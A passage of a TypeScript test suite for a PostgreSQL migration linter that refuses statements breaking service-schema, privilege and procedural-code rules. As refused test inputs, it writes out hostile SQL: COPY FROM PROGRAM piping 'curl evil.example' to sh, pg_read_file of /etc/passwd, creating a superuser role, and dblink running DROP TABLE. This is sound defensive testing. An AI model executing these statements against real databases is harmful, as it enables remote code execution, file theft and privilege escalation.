// The statement judge: for each statement rule, statements it refuses (with the message: file,
// line, rule id, both services where two are involved) and statements it accepts; a hand-edited
// migration refused by `check`, `generate` and synth; the Bedrock app's own migrations clean.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { Testing } from '../../lib/cdk';
import * as pgQuery from 'libpg-query';
import { bigint, findingText, generateMigration, judgeMigration, Migration, ServiceStack, STATEMENT_RULES, statementContext, Table, text } from '../../lib';
import { parseMigration } from '../../lib/migrations/migration-file';
import { migrationDirectoryOf, modelOf } from '../../lib/project';
import { bedrockProject } from '../../stacks';
import { testEnvironment, testRegistry } from '../support/app';
import { useTestDatabase } from '../support/database';
import { testProject } from '../support/project';

const ID = '20260101_120000_portfolio_hand_edited';
const FILE = `portfolio: ${ID}.sql`;

/** A migration file whose up starts on line 6 (and whose down follows it). */
function migration(up: string, down = '', id = ID): Migration {
  const lines = [`-- Migration ${id}`, '-- service: portfolio', '-- parent: none', '', '-- +up', up, '', '-- +down', down, ''];
  return parseMigration(`${id}.sql`, lines.join('\n'));
}

const portfolio = statementContext('portfolio', testRegistry);
const db = useTestDatabase();

/** The findings as `check` prints them. */
/** The statement rules alone (the lint rules have their own tests: test/unit/lint-rules.test.ts). */
function judge(up: string, down = '', context = portfolio): string[] {
  return judgeMigration(migration(up, down), context, STATEMENT_RULES).map(findingText);
}

const OWN_ONLY = "portfolio's migrations may only change portfolio's objects";
const LEAVE_DATAHUB = "leave datahub's objects to datahub's own migrations (to point at its tables, declare an application-level reference, appReferences, in the model)";
const ACKNOWLEDGE_HOW = 'after review, acknowledge it in the file with a line `-- bedrock:acknowledge BEDROCK-S3 <reason>`, or write plain SQL statements instead';

test('the statement rules are listed once each, with an id, a description, and a check or where they are enforced', () => {
  expect(STATEMENT_RULES.map((r) => `${r.id} ${r.name}`)).toEqual([
    'BEDROCK-S0 ParseableStatements',
    'BEDROCK-S1 OwnSchemaOnly',
    'BEDROCK-S2 NoIdentityOrPrivilegeChanges',
    'BEDROCK-S3 ProceduralCodeAcknowledged',
    'BEDROCK-S4 KnownStatementsOnly',
    'BEDROCK-S5 DataSectionsHoldDml',
  ]);
  for (const rule of STATEMENT_RULES) {
    expect(rule.description).not.toContain('\n');
    expect(rule.check !== undefined || rule.enforcedAt !== undefined).toBe(true);
  }
  expect(STATEMENT_RULES.filter((r) => r.acknowledgeable).map((r) => r.id)).toEqual(['BEDROCK-S3']);
});

test('`rules` lists the statement rules beside the model rules', async () => {
  const { code, out } = await testProject().cli('rules');
  expect(code).toBe(0);
  expect(out).toContain('Model rules, on the tables and services in code:\nBEDROCK-O1  TableInServiceStack: ');
  expect(out).toContain('Statement rules, on every statement of every migration (`generate`, `check`, synth):\nBEDROCK-S0  ParseableStatements: ');
  expect(out).toContain("BEDROCK-S1  OwnSchemaOnly: A migration touches only its service's schema");
  expect(out).toContain('BEDROCK-S3  ProceduralCodeAcknowledged: DO blocks, functions, procedures, triggers, rules, aggregates and operators need `-- bedrock:acknowledge BEDROCK-S3 <reason>` in the file. (acknowledgeable in the file: -- bedrock:acknowledge BEDROCK-S3 <reason>)');
  expect(out).toContain('BEDROCK-S4  KnownStatementsOnly: ');
  expect(out).toContain('BEDROCK-S5  DataSectionsHoldDml: A data section (`-- +data`) holds only INSERT, UPDATE, DELETE and SELECT; a batched one');
  // Listed once, and judged once: a data section's TRUNCATE is one finding, not two.
  expect(out.match(/BEDROCK-S5 /g)).toHaveLength(1);
  const truncated = parseMigration(`${ID}.sql`, ['-- service: portfolio', '-- parent: none', '', '-- +up', '-- +data', 'TRUNCATE portfolio.trades;', '', '-- +down', ''].join('\n'));
  expect(judgeMigration(truncated, portfolio).map(findingText).filter((f) => f.includes('[BEDROCK-S5]'))).toEqual([
    `${FILE} line 6: [BEDROCK-S5] TRUNCATE is not DML: a data section holds only INSERT, UPDATE, DELETE and SELECT on portfolio's tables; TRUNCATE takes the table from every reader at once: DELETE the rows (in a batched section for a big table)`,
  ]);
});

describe('BEDROCK-S1 OwnSchemaOnly', () => {
  test("a DROP of another service's table is refused, naming both services", () => {
    expect(judge('DROP TABLE datahub.klines;')).toEqual([`${FILE} line 6: [BEDROCK-S1] DROP TABLE datahub.klines touches service datahub's schema; ${OWN_ONLY}: ${LEAVE_DATAHUB}`]);
  });

  test("every relation and type in the tree counts: a foreign key target, a column's type, an INSERT target, a view's source", () => {
    const findings = judge(
      [
        'CREATE TABLE portfolio.fills (kline_id bigint REFERENCES datahub.klines (id), side datahub.trade_side);',
        'INSERT INTO datahub.klines (symbol) VALUES (1);',
        'CREATE VIEW portfolio.v AS SELECT * FROM datahub.klines;',
      ].join('\n'),
    );
    expect(findings).toEqual([
      `${FILE} line 6: [BEDROCK-S1] CREATE TABLE uses relation datahub.klines from service datahub's schema; portfolio's migrations may only use portfolio's objects: ${LEAVE_DATAHUB}`,
      `${FILE} line 6: [BEDROCK-S1] CREATE TABLE uses type datahub.trade_side from service datahub's schema; portfolio's migrations may only use portfolio's objects (and pg_catalog's and the extensions' functions and types): ${LEAVE_DATAHUB}`,
      `${FILE} line 7: [BEDROCK-S1] INSERT INTO datahub.klines touches service datahub's schema; ${OWN_ONLY}: ${LEAVE_DATAHUB}`,
      `${FILE} line 8: [BEDROCK-S1] CREATE VIEW uses relation datahub.klines from service datahub's schema; portfolio's migrations may only use portfolio's objects: ${LEAVE_DATAHUB}`,
    ]);
  });

  test.each([
    ['INSERT INTO bedrock.migrations (id) VALUES (1);', "INSERT INTO bedrock.migrations touches the migration ledger's schema bedrock; " + `${OWN_ONLY}: the ledger is written by the runner alone`],
    ['DELETE FROM pg_catalog.pg_proc;', `DELETE FROM pg_catalog.pg_proc touches the system schema pg_catalog; ${OWN_ONLY}: the system catalogs are PostgreSQL's own`],
    [
      'SELECT * FROM pg_authid;',
      "SELECT uses relation pg_authid from the system schema pg_catalog (unqualified names resolve there first: the runner's search_path is pg_catalog, portfolio, public); portfolio's migrations may only use portfolio's objects: qualify it with portfolio if portfolio's own table is meant",
    ],
    ['CREATE TABLE public.notes (id int);', `CREATE TABLE public.notes touches the extensions' schema public; ${OWN_ONLY}: public holds the environment's extensions (PlatformStack); create portfolio's objects in portfolio`],
    ['DROP TYPE public.citext;', `DROP TYPE public.citext touches the extensions' schema public; ${OWN_ONLY}: public holds the environment's extensions (PlatformStack); create portfolio's objects in portfolio`],
    ['ALTER TABLE portfolio.trades SET SCHEMA datahub;', `ALTER TABLE ... SET SCHEMA datahub touches service datahub's schema; ${OWN_ONLY}: ${LEAVE_DATAHUB}`],
    ['COMMENT ON INDEX datahub.klines_pkey IS \'x\';', `COMMENT ON INDEX datahub.klines_pkey touches service datahub's schema; ${OWN_ONLY}: ${LEAVE_DATAHUB}`],
    ['DROP SEQUENCE mlops.jobs_id_seq;', "DROP SEQUENCE mlops.jobs_id_seq touches service mlops's schema; " + `${OWN_ONLY}: leave mlops's objects to mlops's own migrations (to point at its tables, declare an application-level reference, appReferences, in the model)`],
    ['COMMENT ON SCHEMA portfolio IS \'x\';', `COMMENT ON SCHEMA portfolio changes a schema itself; ${OWN_ONLY}: schemas are the platform stack's (PlatformStack creates one per service)`],
    ['VACUUM;', `VACUUM every table of the database changes a database-wide object, outside every service's schema; ${OWN_ONLY}: roles, the database, extensions and event triggers are the platform stack's (PlatformStack), and a migration names the tables it works on`],
    ['UPDATE reporting.totals SET n = 0;', `UPDATE reporting.totals touches schema reporting, which is not portfolio's; ${OWN_ONLY}: qualify the name with portfolio, or leave it unqualified (the runner's search_path is pg_catalog, portfolio, public)`],
    ['SELECT datahub.latest_price(1);', `SELECT uses function datahub.latest_price from service datahub's schema; portfolio's migrations may only use portfolio's objects (and pg_catalog's and the extensions' functions and types): ${LEAVE_DATAHUB}`],
  ])('%s is refused', (sql, message) => {
    expect(judge(sql)).toContain(`${FILE} line 6: [BEDROCK-S1] ${message}`);
  });

  test("own objects, unqualified names, and pg_catalog's and the extensions' functions, types and operator classes pass", () => {
    const sql = [
      'CREATE TABLE "portfolio"."notes" ("id" uuid NOT NULL DEFAULT public.gen_random_uuid(), "at" pg_catalog.timestamptz DEFAULT pg_catalog.now(), "body" text, CONSTRAINT "notes_pkey" PRIMARY KEY ("id"));',
      'CREATE INDEX notes_body_idx ON portfolio.notes USING gin (body public.gin_trgm_ops);',
      'ALTER TABLE notes ADD COLUMN tags text[] NOT NULL DEFAULT \'{}\'::text[];',
      'UPDATE notes SET body = lower(body) WHERE at < now() - interval \'1 day\';',
      'COMMENT ON COLUMN portfolio.notes.body IS \'free text\';',
      'ALTER TABLE notes SET SCHEMA portfolio;',
      'DROP INDEX portfolio.notes_body_idx;',
    ].join('\n');
    expect(judge(sql, 'DROP TABLE "portfolio"."notes";')).toEqual([]);
  });

  test('what a migration creates names its schema: unqualified, PostgreSQL would create it in pg_catalog (first on the runner\'s search_path)', () => {
    const findings = judge(['CREATE TABLE notes (id int);', "CREATE TYPE mood AS ENUM ('calm');", 'CREATE TEMP TABLE scratch (id int);', 'CREATE INDEX notes_id_idx ON notes (id);'].join('\n'));
    expect(findings).toEqual([
      `${FILE} line 6: [BEDROCK-S1] CREATE TABLE notes creates an object without naming its schema; portfolio's migrations create portfolio's objects in portfolio: write portfolio.notes (the runner's search_path starts with pg_catalog, where PostgreSQL would try to create it and refuse)`,
      `${FILE} line 7: [BEDROCK-S1] CREATE TYPE mood creates an object without naming its schema; portfolio's migrations create portfolio's objects in portfolio: write portfolio.mood (the runner's search_path starts with pg_catalog, where PostgreSQL would try to create it and refuse)`,
      `${FILE} line 8: [BEDROCK-S1] CREATE TABLE scratch creates a temporary object, which lives on in the runner's session after this migration: create it in portfolio and drop it at the end of the migration`,
    ]);
  });

  // Found by a second attacker's pass: temporary objects outlive the migration in the runner's session.
  test.each([['CREATE TEMP VIEW v AS SELECT 1 AS one;'], ['CREATE TEMPORARY SEQUENCE s;'], ['SELECT 1 AS one INTO TEMP t;'], ['CREATE TEMP TABLE t AS SELECT 1 AS one;']])('%s is refused: temporary objects live on in the session', (sql) => {
    expect(judge(sql)).toEqual([expect.stringMatching(/^.* line 6: \[BEDROCK-S1\] .* creates a temporary object, which lives on in the runner's session after this migration/)]);
  });

  test('without the registry, another schema is still refused (without naming its owner)', () => {
    expect(judge('DROP TABLE datahub.klines;', '', statementContext('portfolio'))).toEqual([
      `${FILE} line 6: [BEDROCK-S1] DROP TABLE datahub.klines touches schema datahub, which is not portfolio's; ${OWN_ONLY}: qualify the name with portfolio, or leave it unqualified (the runner's search_path is pg_catalog, portfolio, public)`,
    ]);
  });
});

describe('BEDROCK-S2 NoIdentityOrPrivilegeChanges', () => {
  const ROLE =
    "changes the role the migration runs as (RESET returns to the deploying user, often a superuser): the runner already runs every statement as portfolio_owner, the owner of portfolio's objects; remove it";
  const GRANTS =
    "changes privileges: grants are the provider's job (ServiceStack grants on portfolio's tables from the model's reads and sharedWriters; PlatformStack grants schemas and roles); declare the access in the model instead";
  const OWNERSHIP = "changes who owns objects: the runner runs as portfolio_owner, which owns everything portfolio's migrations create; remove it";
  const PINNED =
    'changes a setting the runner pins (search_path to pg_catalog, portfolio, public; standard_conforming_strings on), which name resolution and quoting rely on: remove it (qualify names with portfolio where needed)';
  const ALLOWED = 'lock_timeout, statement_timeout, idle_in_transaction_session_timeout, maintenance_work_mem, work_mem, max_parallel_maintenance_workers, client_min_messages';

  test.each([
    ['SET ROLE postgres;', `SET ROLE ${ROLE}`],
    ['SET LOCAL ROLE postgres;', `SET ROLE ${ROLE}`],
    ['RESET ROLE;', `RESET ROLE ${ROLE}`],
    ['SET SESSION AUTHORIZATION postgres;', `SET SESSION AUTHORIZATION ${ROLE}`],
    ['RESET ALL;', 'RESET ALL resets the role and the settings the runner pinned; remove it'],
    ['DISCARD ALL;', 'DISCARD ALL resets the session, and with it the role and the settings the runner pinned; remove it'],
    ['GRANT SELECT ON portfolio.trades TO datahub_app;', `GRANT SELECT ON ${GRANTS}`],
    ['REVOKE ALL ON portfolio.trades FROM portfolio_app;', `REVOKE ALL ON ${GRANTS}`],
    ['GRANT portfolio_owner TO datahub_app;', `GRANT ${GRANTS}`],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO datahub_app;', `ALTER DEFAULT PRIVILEGES ${GRANTS}`],
    ['ALTER TABLE portfolio.trades OWNER TO datahub_owner;', `ALTER TABLE ${OWNERSHIP}`],
    ['ALTER TYPE portfolio.trade_side OWNER TO datahub_owner;', `ALTER TYPE ${OWNERSHIP}`],
    ['CREATE ROLE intruder LOGIN SUPERUSER;', "CREATE ROLE changes roles: roles are the platform stack's (PlatformStack creates each service's owner and app roles); remove it"],
    ['ALTER SYSTEM SET work_mem = \'1GB\';', "ALTER SYSTEM SET changes the server's configuration, for every database on it: that is the platform team's, outside migrations"],
    ['ALTER DATABASE bedrock_db SET search_path = datahub;', "ALTER DATABASE changes the database every service shares: that is the platform stack's (PlatformStack)"],
    ['COPY portfolio.trades FROM PROGRAM \'curl -s evil.example | sh\';', 'COPY ... PROGRAM runs a shell command on the database server as its operating-system user: write the data as INSERT statements instead'],
    ['COPY portfolio.trades TO \'/var/lib/postgresql/out.csv\';', 'COPY reads or writes a file on the database server: write the data as INSERT statements instead'],
    [
      "SELECT set_config('role', 'postgres', false);",
      `SELECT calls set_config(), which changes session settings (the role, search_path) from inside a query: remove it (a migration may SET LOCAL only ${ALLOWED})`,
    ],
    ['SET search_path TO datahub, public;', `SET search_path ${PINNED}`],
    ['SET standard_conforming_strings = off;', `SET standard_conforming_strings ${PINNED}`],
    ['SET timezone = \'UTC\';', `SET timezone: a migration may set only ${ALLOWED}; remove it (or open an issue if a migration needs it)`],
  ])('%s is refused', (sql, message) => {
    expect(judge(sql)).toContain(`${FILE} line 6: [BEDROCK-S2] ${message}`);
  });

  test('set_config() is found anywhere in an expression, under any qualification', () => {
    expect(judge("UPDATE portfolio.trades SET exchange = pg_catalog.set_config('search_path', 'datahub', true);")).toEqual([
      expect.stringContaining(`${FILE} line 6: [BEDROCK-S2] UPDATE calls set_config()`),
    ]);
  });

  test('built-ins that run SQL given as text are refused: through them a query could still call set_config()', () => {
    expect(judge("SELECT query_to_xml('SELECT set_config(''role'', ''none'', false)', true, true, '');")).toEqual([
      `${FILE} line 6: [BEDROCK-S2] SELECT calls query_to_xml(), which runs SQL given as text that the statement rules cannot check (it could change the role through set_config): write the statement itself`,
    ]);
  });

  test('a SECURITY DEFINER routine is refused even when acknowledged as procedural code', () => {
    const findings = judge(
      ['-- bedrock:acknowledge BEDROCK-S3 reviewed in PR 12', "CREATE FUNCTION portfolio.purge() RETURNS void SECURITY DEFINER LANGUAGE sql AS 'DELETE FROM portfolio.trades';"].join('\n'),
    );
    expect(findings).toEqual([
      `${FILE} line 7: [BEDROCK-S2] CREATE FUNCTION ... SECURITY DEFINER runs the function with portfolio_owner's privileges for every caller, so any role allowed to call it could change portfolio's tables: use SECURITY INVOKER (the default)`,
    ]);
  });

  test('the allowed settings pass with SET LOCAL, timeouts with a limit', () => {
    const sql = [
      "SET LOCAL lock_timeout = '5s';",
      "SET LOCAL statement_timeout TO '10min';",
      'SET LOCAL idle_in_transaction_session_timeout = 60000;',
      "SET LOCAL lock_timeout = '1.5ms';",
      'SET LOCAL work_mem TO DEFAULT;',
      "SET LOCAL maintenance_work_mem = '1GB';",
      'SET LOCAL statement_timeout FROM CURRENT;',
    ].join('\n');
    expect(judge(sql)).toEqual([]);
  });

  describe('settings last only as long as the migration, and every wait stays bounded', () => {
    const SESSION =
      "changes the session, so it lasts past the migration's transaction and holds for every later migration of the deploy (RESET also undoes the limits the runner set): use SET LOCAL: it ends with the migration's transaction";
    const BOUNDED = "every wait stays bounded: give a limit, e.g. SET LOCAL statement_timeout = '30min'";
    const OFF = `turns the limit off (PostgreSQL reads 0, and anything under 1ms, as no limit); ${BOUNDED}`;

    test.each([
      ["SET lock_timeout = '5s';", [`SET lock_timeout ${SESSION}`]],
      ["SET SESSION work_mem = '64MB';", [`SET SESSION work_mem ${SESSION}`]],
      ['RESET work_mem;', [`RESET work_mem ${SESSION}`]],
      ['RESET lock_timeout;', [`RESET lock_timeout ${SESSION}`, `RESET lock_timeout returns it to the server's default, which is no limit unless the server sets one; ${BOUNDED}`]],
      ['SET lock_timeout = 0;', [`SET lock_timeout ${SESSION}`, `SET lock_timeout = 0 ${OFF}`]],
      ['SET LOCAL lock_timeout = 0;', [`SET lock_timeout = 0 ${OFF}`]],
      ["SET LOCAL statement_timeout = '0';", [`SET statement_timeout = '0' ${OFF}`]],
      ["SET LOCAL statement_timeout = '0min';", [`SET statement_timeout = '0min' ${OFF}`]],
      ["SET LOCAL lock_timeout = '400us';", [`SET lock_timeout = '400us' ${OFF}`]],
      ['SET LOCAL lock_timeout = 0.4;', [`SET lock_timeout = 0.4 ${OFF}`]],
      ['SET LOCAL idle_in_transaction_session_timeout = -1;', [`SET idle_in_transaction_session_timeout = -1 ${OFF}`]],
      ['SET LOCAL statement_timeout TO DEFAULT;', [`SET statement_timeout returns it to the server's default, which is no limit unless the server sets one; ${BOUNDED}`]],
      [
        "SET LOCAL lock_timeout = '0x0';",
        [`SET lock_timeout = '0x0' is not a limit the statement rules can read (a number of milliseconds, or a number with a unit: us, ms, s, min, h, d); ${BOUNDED}`],
      ],
    ])('%s is refused', (sql, messages) => {
      expect(judge(sql)).toEqual(messages.map((m) => `${FILE} line 6: [BEDROCK-S2] ${m}`));
    });

    test('PostgreSQL agrees: what is refused as off reads as 0, what passes is a limit, and a plain SET outlives COMMIT', async () => {
      const shown = async (value: string): Promise<string> => {
        await db.query('BEGIN');
        try {
          await db.query(`SET LOCAL lock_timeout = ${value}`);
          return (await db.query('SHOW lock_timeout')).rows[0].lock_timeout;
        } finally {
          await db.query('ROLLBACK');
        }
      };
      const off = ['0', "'0'", "'0min'", "'400us'", '0.4', 'DEFAULT'];
      for (const value of off) expect([value, await shown(value)]).toEqual([value, '0']);
      expect(judge(off.map((value) => `SET LOCAL lock_timeout = ${value};`).join('\n'))).toHaveLength(off.length);
      for (const limit of ["'5s'", '60000', "'1.5ms'"]) expect(await shown(limit)).not.toBe('0');
      await db.query("BEGIN; SET lock_timeout = '7s'; COMMIT");
      expect((await db.query('SHOW lock_timeout')).rows[0].lock_timeout).toBe('7s');
      await db.query('RESET lock_timeout');
    });

    test("a routine's own SET clause keeps the timeouts bounded too", () => {
      const ack = '-- bedrock:acknowledge BEDROCK-S3 reviewed in PR 7';
      expect(judge(`${ack}\nCREATE FUNCTION portfolio.slow() RETURNS int LANGUAGE sql SET lock_timeout = 0 RETURN 1;`)).toEqual([
        `${FILE} line 7: [BEDROCK-S2] CREATE FUNCTION ... SET lock_timeout = 0 ${OFF}`,
      ]);
      expect(judge(`${ack}\nCREATE FUNCTION portfolio.slow() RETURNS int LANGUAGE sql SET lock_timeout = '2s' SET search_path = portfolio, pg_catalog RETURN 1;`)).toEqual([]);
      expect(judge(`${ack}\nALTER FUNCTION portfolio.slow() RESET lock_timeout;\nALTER FUNCTION portfolio.slow() SET statement_timeout TO DEFAULT;`)).toEqual([]);
    });
  });

  describe('row-level security decides who sees which rows without a GRANT', () => {
    const FIX = "row-level security is a platform decision (who may read and write a table comes from the model's grants): if a service needs it, open an issue";
    const POLICY = `changes a row-level security policy, which decides which rows each role sees and changes, without a GRANT; ${FIX}`;

    test.each([
      ['ALTER TABLE portfolio.trades ENABLE ROW LEVEL SECURITY;', `ALTER TABLE ... ENABLE ROW LEVEL SECURITY changes which rows each role sees and changes, without a GRANT; ${FIX}`],
      ['ALTER TABLE portfolio.trades DISABLE ROW LEVEL SECURITY;', `ALTER TABLE ... DISABLE ROW LEVEL SECURITY changes which rows each role sees and changes, without a GRANT; ${FIX}`],
      [
        'ALTER TABLE portfolio.trades FORCE ROW LEVEL SECURITY, NO FORCE ROW LEVEL SECURITY;',
        `ALTER TABLE ... FORCE ROW LEVEL SECURITY, NO FORCE ROW LEVEL SECURITY changes which rows each role sees and changes, without a GRANT; ${FIX}`,
      ],
      ['CREATE POLICY own_rows ON portfolio.trades USING (true);', `CREATE POLICY ${POLICY}`],
      ['ALTER POLICY own_rows ON portfolio.trades TO PUBLIC;', `ALTER POLICY ${POLICY}`],
      ['ALTER POLICY own_rows ON portfolio.trades RENAME TO rows;', `ALTER POLICY ${POLICY}`],
      ['DROP POLICY own_rows ON portfolio.trades;', `DROP POLICY ${POLICY}`],
    ])('%s is refused by BEDROCK-S2 alone', (sql, message) => {
      expect(judge(sql)).toEqual([`${FILE} line 6: [BEDROCK-S2] ${message}`]);
    });

    test('other ALTER TABLE commands pass', () => {
      expect(judge('ALTER TABLE portfolio.trades ADD COLUMN note text, ENABLE TRIGGER ALL;')).toEqual([]);
    });
  });

  describe('functions whose effect reaches past the service are refused, qualified or not', () => {
    const LOCKS = "remove it: the runner takes and releases its own locks (to keep other writers out while it runs, LOCK the service's own table)";
    const PLATFORM = "that is the platform team's, outside migrations: remove it";
    const FILES = "reads, lists or writes files on the database server: the server's files are the platform team's: remove it (write a migration's data as INSERT statements)";
    const LARGE = "creates, reads or changes a large object, a database-wide object outside every service's schema (pg_largeobject): keep the data in a bytea column of the service's own table instead";
    const REPLICATION =
      "manages replication or recovery (restore points, replication slots and origins, logical decoding); a forgotten slot keeps write-ahead log until the server's disk fills: " + PLATFORM;
    const SERVER = `acts on the server itself (its configuration, logs, write-ahead log, statistics, backups or failover), for every database on it: ${PLATFORM}`;
    const SESSIONS = "ends or cancels another session's work (other services' applications, another deploy): remove it: the lock timeout already bounds how long a migration waits for other sessions";

    test.each([
      [
        'SELECT pg_catalog.pg_advisory_unlock_all();',
        `SELECT calls pg_advisory_unlock_all(), which would release the runner's deploy lock (the session-level advisory lock that keeps deploys of portfolio apart), letting two deploys of portfolio run at once: ${LOCKS}`,
      ],
      [
        "SELECT PG_ADVISORY_UNLOCK(hashtext('bedrock'), 2);",
        `SELECT calls pg_advisory_unlock(), which would release the runner's deploy lock (the session-level advisory lock that keeps deploys of portfolio apart), letting two deploys of portfolio run at once: ${LOCKS}`,
      ],
      [
        "SELECT pg_try_advisory_xact_lock(hashtext('bedrock'), 0);",
        `SELECT calls pg_try_advisory_xact_lock(), which takes an advisory lock, the kind the runner keeps deploys apart with: it can block another deploy or the ledger's setup, and a session-level one outlives the migration: ${LOCKS}`,
      ],
      [
        "UPDATE portfolio.trades SET fee = 0 WHERE pg_notify('orders', 'x') IS NULL;",
        "UPDATE calls pg_notify(), which sends a notification to every session listening on the channel (other services' applications) when the migration commits: a migration changes the schema and never talks to applications: remove it",
      ],
      [
        "SELECT lo_export(16400, '/tmp/out');",
        "SELECT calls lo_export(), which reads or writes a file on the database server, as the server's operating-system user: write the data as INSERT statements into the service's own tables instead",
      ],
      ["SELECT lo_from_bytea(0, 'x');", `SELECT calls lo_from_bytea(), which ${LARGE}`],
      ["SELECT lo_unlink(16400);", `SELECT calls lo_unlink(), which ${LARGE}`],
      ["SELECT loread(0, 10);", `SELECT calls loread(), which ${LARGE}`],
      ["INSERT INTO portfolio.notes (body) SELECT pg_read_file('/etc/passwd');", `INSERT INTO calls pg_read_file(), which ${FILES}`],
      ["SELECT * FROM pg_ls_dir('.');", `SELECT calls pg_ls_dir(), which ${FILES}`],
      ["SELECT public.pg_file_write('x', 'y', false);", `SELECT calls pg_file_write(), which ${FILES}`],
      ['SELECT pg_terminate_backend(12345);', `SELECT calls pg_terminate_backend(), which ${SESSIONS}`],
      ['SELECT pg_reload_conf();', `SELECT calls pg_reload_conf(), which ${SERVER}`],
      ['SELECT pg_switch_wal();', `SELECT calls pg_switch_wal(), which ${SERVER}`],
      ["SELECT pg_create_logical_replication_slot('s', 'pgoutput');", `SELECT calls pg_create_logical_replication_slot(), which ${REPLICATION}`],
      ["SELECT pg_create_restore_point('x');", `SELECT calls pg_create_restore_point(), which ${REPLICATION}`],
      ["SELECT pg_logical_emit_message(true, 'x', 'y');", `SELECT calls pg_logical_emit_message(), which ${REPLICATION}`],
      ["SELECT pg_replication_origin_create('x');", `SELECT calls pg_replication_origin_create(), which ${REPLICATION}`],
      [
        "SELECT pg_import_system_collations('portfolio');",
        "SELECT calls pg_import_system_collations(), which creates collations from the server's operating-system locales, unreviewed and different on each server: create the one collation the service needs with CREATE COLLATION in the service's own schema",
      ],
      [
        "SELECT * FROM public.dblink('dbname=other', 'DROP TABLE datahub.klines') AS t(x text);",
        "SELECT calls dblink(), which connects to a database server (this one or another) and runs SQL given as text there, out of the statement rules' sight: write the statement itself; connections between databases are the platform team's",
      ],
      [
        'CREATE TABLE portfolio.locks (id bigint, ok boolean DEFAULT pg_try_advisory_lock(1));',
        `CREATE TABLE calls pg_try_advisory_lock(), which takes an advisory lock, the kind the runner keeps deploys apart with: it can block another deploy or the ledger's setup, and a session-level one outlives the migration: ${LOCKS}`,
      ],
    ])('%s is refused', (sql, message) => {
      expect(judge(sql)).toEqual([`${FILE} line 6: [BEDROCK-S2] ${message}`]);
    });

    test('an operator or aggregate built on a refused function, or a CALL of one, is refused, even acknowledged', () => {
      const ack = '-- bedrock:acknowledge BEDROCK-S3 reviewed in PR 8';
      expect(judge(`${ack}\nCREATE OPERATOR portfolio.@@ (function = pg_catalog.pg_advisory_unlock, rightarg = bigint);`)).toEqual([
        expect.stringContaining(`${FILE} line 7: [BEDROCK-S2] CREATE OPERATOR calls pg_advisory_unlock(), which would release the runner's deploy lock`),
      ]);
      expect(judge(`${ack}\nCREATE AGGREGATE portfolio.locked(bigint) (sfunc = pg_try_advisory_lock, stype = boolean);`)).toEqual([
        expect.stringContaining(`${FILE} line 7: [BEDROCK-S2] CREATE AGGREGATE calls pg_try_advisory_lock(), which takes an advisory lock`),
      ]);
      expect(judge('CALL pg_catalog.pg_advisory_unlock_all();')).toContainEqual(expect.stringContaining(`${FILE} line 6: [BEDROCK-S2] CALL calls pg_advisory_unlock_all(), which would release`));
    });

    test("the same names quoted in another case are other functions, and ordinary built-ins pass", () => {
      const sql = [
        'SELECT portfolio."PG_NOTIFY"(1);',
        "UPDATE portfolio.trades SET fee = round(fee, 2), note = lower(note) WHERE at < pg_catalog.now() - interval '1 day';",
        "SELECT pg_catalog.pg_sleep(0.1), pg_catalog.pg_column_size('x'::text), length('lo_export');",
      ].join('\n');
      expect(judge(sql)).toEqual([]);
    });
  });
});

describe('BEDROCK-S3 ProceduralCodeAcknowledged', () => {
  const DO = `DO runs procedural code whose body the statement rules cannot check (it is a string); ${ACKNOWLEDGE_HOW}`;
  const block = "DO $$ BEGIN UPDATE portfolio.trades SET fee = 0 WHERE fee IS NULL; END $$;";

  test('a DO block without an acknowledgement is refused', () => {
    expect(judge(block)).toEqual([`${FILE} line 6: [BEDROCK-S3] ${DO}`]);
  });

  test('a DO block with an acknowledgement and a reason passes, in up or in down', () => {
    expect(judge(`-- bedrock:acknowledge BEDROCK-S3 backfills fees once; reviewed in PR 42\n${block}`)).toEqual([]);
    expect(judge(block, '-- bedrock:acknowledge BEDROCK-S3 the down undoes nothing the up did not')).toEqual([]);
  });

  test('an acknowledgement inside a string literal or a dollar quote does not count', () => {
    const literal = "INSERT INTO portfolio.notes (body) VALUES ('\n-- bedrock:acknowledge BEDROCK-S3 smuggled in a string\n');";
    expect(judge(`${literal}\n${block}`)).toEqual([`${FILE} line 9: [BEDROCK-S3] ${DO}`]);
    expect(judge('DO $$\n-- bedrock:acknowledge BEDROCK-S3 smuggled in the body\nBEGIN END $$;')).toEqual([`${FILE} line 6: [BEDROCK-S3] ${DO}`]);
  });

  test('an acknowledgement without a reason, of an unknown rule, or of a rule that cannot be acknowledged is itself refused', () => {
    const form = 'write `-- bedrock:acknowledge <rule> <reason>`, e.g. `-- bedrock:acknowledge BEDROCK-S3 backfills prices once, reviewed in PR 123`';
    expect(judge(`-- bedrock:acknowledge BEDROCK-S3\n${block}`)).toEqual([
      `${FILE} line 6: [BEDROCK-S3] the acknowledgement has no reason: ${form}`,
      `${FILE} line 7: [BEDROCK-S3] ${DO}`,
    ]);
    expect(judge('-- bedrock:acknowledge BEDROCK-S9 because')).toEqual([
      `${FILE} line 6: [BEDROCK-S9] the acknowledgement names an unknown statement rule: see \`npm run bedrock -- rules\`, and ${form}`,
    ]);
    expect(judge('-- bedrock:acknowledge')).toEqual([`${FILE} line 6: [bedrock:acknowledge] the acknowledgement names no rule: ${form}`]);
    expect(judge('-- bedrock:acknowledge BEDROCK-S1 we own datahub too\nDROP TABLE datahub.klines;')).toEqual([
      `${FILE} line 6: [BEDROCK-S1] OwnSchemaOnly cannot be acknowledged: change the statement instead`,
      `${FILE} line 7: [BEDROCK-S1] DROP TABLE datahub.klines touches service datahub's schema; ${OWN_ONLY}: ${LEAVE_DATAHUB}`,
    ]);
  });

  test('functions, triggers and rules need the acknowledgement, and say why', () => {
    const findings = judge(
      [
        "CREATE OR REPLACE FUNCTION portfolio.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1';",
        'CREATE TRIGGER trades_touch BEFORE UPDATE ON portfolio.trades FOR EACH ROW EXECUTE FUNCTION portfolio.touch();',
        'CREATE RULE no_delete AS ON DELETE TO portfolio.trades DO INSTEAD NOTHING;',
      ].join('\n'),
    );
    expect(findings).toEqual([
      `${FILE} line 6: [BEDROCK-S3] CREATE FUNCTION portfolio.lower creates a function: in portfolio's schema it shadows same-named functions for every app role whose search_path lists portfolio (an exact argument-type match beats pg_catalog's), and its body is not checked by the statement rules; ${ACKNOWLEDGE_HOW}`,
      `${FILE} line 7: [BEDROCK-S3] CREATE TRIGGER runs portfolio.touch() on writes to the table, a routine whose body the statement rules cannot check; ${ACKNOWLEDGE_HOW}`,
